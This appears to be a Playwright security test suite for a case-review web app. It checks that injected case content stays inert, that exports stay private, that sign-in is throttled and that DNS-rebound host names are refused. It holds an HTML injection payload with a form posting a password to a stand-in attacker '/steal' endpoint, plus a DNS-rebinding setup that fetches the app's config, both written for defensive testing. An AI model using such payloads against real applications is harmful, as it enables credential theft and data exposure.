"""Issue 10's browser findings, in Debian's chromium through Playwright against `python ui.py`:

- case text with a remote image, a form and an input: nothing is fetched (a local HTTP server counts requests),
  no form/input/img/link is rendered, and the Content-Security-Policy blocks a remote image even if one got in;
- another reviewer's cached export is not served (404), its owner's is;
- sign-in is throttled: after repeated wrong passwords the right one is refused too, and audited;
- DNS rebinding: the page asked for under a foreign host name that resolves to 127.0.0.1 is refused (421).
"""

from __future__ import annotations

import http.server
import json
import threading

import pytest

from conftest import FIXTURES
from test_ui_browser import CHROMIUM, CHROMIUM_ARGS, SHOTS, App, _free_port, _skip_reasons, _tab

pytestmark = [pytest.mark.browser, pytest.mark.slow]


class RequestCounter:
    """A plain HTTP server on 127.0.0.1 standing in for an attacker's host: it records every path asked for."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        counter = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - http.server's name
                counter.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *_args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def attacker():
    counter = RequestCounter()
    yield counter
    counter.close()


def hostile_case(port: int) -> str:
    base = f"http://127.0.0.1:{port}"
    return (f"![p]({base}/pixel.png) <img src=\"{base}/img-tag.png\"> "
            f"<form action=\"{base}/steal\" method=\"post\"><input name=\"pw\" id=\"injected-pw\">"
            f"<button>Continue</button></form> <a href=\"{base}/link\">records</a>\n"
            + (FIXTURES / "cases" / "opioid-escalation.txt").read_text())


def sign_in(browser, url: str, name: str, password: str):
    page = browser.new_context(accept_downloads=True).new_page()
    page.goto(url, wait_until="domcontentloaded", timeout=120_000)
    page.wait_for_selector("input[data-testid='password']", timeout=120_000)
    page.fill("input[data-testid='textbox']", name)
    page.fill("input[data-testid='password']", password)
    page.keyboard.press("Enter")
    page.wait_for_selector("#case-text textarea", timeout=120_000)
    # The page's load event fills the workspace; reading a case before it answers would be overwritten by it.
    page.wait_for_function("() => (document.querySelector('#status-line')?.innerText || '').includes('Signed in as')",
                           timeout=180_000)
    return page


def try_password(page, name: str, password: str) -> int:
    page.fill("input[data-testid='textbox']", name)
    page.fill("input[data-testid='password']", password)
    with page.expect_response(lambda r: "/login" in r.url and r.request.method == "POST", timeout=30_000) as answer:
        page.keyboard.press("Enter")
    return answer.value.status


def test_case_content_inert_exports_private_sign_in_throttled(ui_home, tmp_path, attacker):
    _skip_reasons()
    from playwright.sync_api import sync_playwright

    from assistant.auth import add_user

    users = tmp_path / "users.toml"
    add_user(users, "alice", "alice-pass-123")
    add_user(users, "bob", "bob-pass-456")
    SHOTS.mkdir(parents=True, exist_ok=True)
    app = App(ui_home, _free_port(), SHOTS / "security-app.log")
    app.log.write_text("")
    app.extra_args = ["--auth", str(users)]
    app.start()
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS)
            alice = sign_in(browser, app.url, "alice", "alice-pass-123")

            # Finding 4: the hostile case is shown as text; nothing is fetched, nothing active is rendered.
            alice.locator("#case-text textarea").fill(hostile_case(attacker.port))
            alice.locator("#case-number textarea, #case-number input").first.fill("CM16-0000666")  # pasted text names none
            alice.locator("#case-submit").click()
            alice.wait_for_function(
                "() => (document.querySelector('#case-items')?.innerText || '').includes('Oxycodone')", timeout=180_000)
            summary = alice.locator("#case-summary")
            assert "pixel.png" in summary.inner_text() and "<form" in summary.inner_text()
            assert summary.locator("img, form, input, button, a, script").count() == 0
            assert alice.locator("#injected-pw").count() == 0
            # Second line: even an image element put into the page cannot reach another host (CSP img-src).
            alice.evaluate(f"""() => {{ const i = document.createElement('img');
                i.src = 'http://127.0.0.1:{attacker.port}/csp-probe.png'; document.body.appendChild(i); }}""")
            alice.wait_for_timeout(2000)
            alice.screenshot(path=str(SHOTS / "security-hostile-case.png"), full_page=True)
            assert attacker.paths == [], f"the browser fetched {attacker.paths}"

            # Finding 3: alice's export is served to alice only.
            _tab(alice, "Rationale")
            alice.locator("#draft-button").click()
            alice.wait_for_function(
                "() => (document.querySelector('#rationale-text textarea')?.value || '').trim().length > 20",
                timeout=300_000)
            _tab(alice, "Export")
            alice.locator("#export-button").click()
            alice.wait_for_selector("#export-md", state="visible", timeout=180_000)
            with alice.expect_download(timeout=60_000) as download:
                alice.locator("#export-md").click()
            url = download.value.url
            assert "/gradio_api/file=" in url
            own = alice.request.get(url)
            assert own.status == 200 and b"Oxycodone" in own.body()
            bob = sign_in(browser, app.url, "bob", "bob-pass-456")
            assert bob.request.get(url).status == 404
            stranger = browser.new_context().new_page()
            assert stranger.request.get(url).status in (401, 404)

            # Finding 5: wrong passwords lock the name (and this client) out; then even the right one is refused.
            guesser = browser.new_context().new_page()
            guesser.goto(app.url, wait_until="domcontentloaded", timeout=120_000)
            guesser.wait_for_selector("input[data-testid='password']", timeout=120_000)
            statuses = [try_password(guesser, "bob", f"guess-{n}") for n in range(8)]
            assert statuses == [400] * 8
            assert try_password(guesser, "bob", "bob-pass-456") == 400
            guesser.wait_for_timeout(1000)
            assert guesser.locator("#case-text textarea").count() == 0, "still on the sign-in page"
            browser.close()
        events = [json.loads(line) for line in (ui_home / "sign-in-audit.jsonl").read_text().splitlines()]
        bob_events = [e["event"] for e in events if e["user"] == "bob"]
        assert bob_events[0] == "login_ok" and bob_events.count("login_failed") >= 5
        assert bob_events[-1] == "login_locked"
    finally:
        app.stop()


def test_a_rebound_host_name_is_refused(tmp_path):
    """DNS rebinding against the default no-auth loopback app: the browser resolves rebind.attacker.example to
    127.0.0.1 (as the attacker's DNS would), and the app refuses that Host; 127.0.0.1 itself still works."""
    _skip_reasons()
    from playwright.sync_api import sync_playwright

    SHOTS.mkdir(parents=True, exist_ok=True)
    app = App(tmp_path / "home", _free_port(), SHOTS / "rebind-app.log")
    app.log.write_text("")
    app.start()
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(
                executable_path=str(CHROMIUM), headless=True,
                args=[*CHROMIUM_ARGS, "--host-resolver-rules=MAP rebind.attacker.example 127.0.0.1"])
            page = browser.new_page()
            response = page.goto(f"http://rebind.attacker.example:{app.port}/", wait_until="domcontentloaded",
                                 timeout=60_000)
            assert response.status == 421
            assert "Misdirected request" in page.locator("body").inner_text()
            # what the attacker's script on that origin would do: read the app's config and the case list API
            statuses = page.evaluate("""async () => Promise.all(['/config', '/gradio_api/info'].map(
                async path => (await fetch(path)).status))""")
            assert statuses == [421, 421]
            home = page.goto(app.url, wait_until="domcontentloaded", timeout=60_000)
            assert home.status == 200
            page.wait_for_selector("#case-text textarea", timeout=120_000)
            browser.close()
    finally:
        app.stop()


@pytest.fixture
def ui_home(cdc_settings, tmp_path):
    import shutil

    home = tmp_path / "home"
    shutil.copytree(cdc_settings.home, home, ignore=shutil.ignore_patterns("drafts.sqlite3*"))
    return home


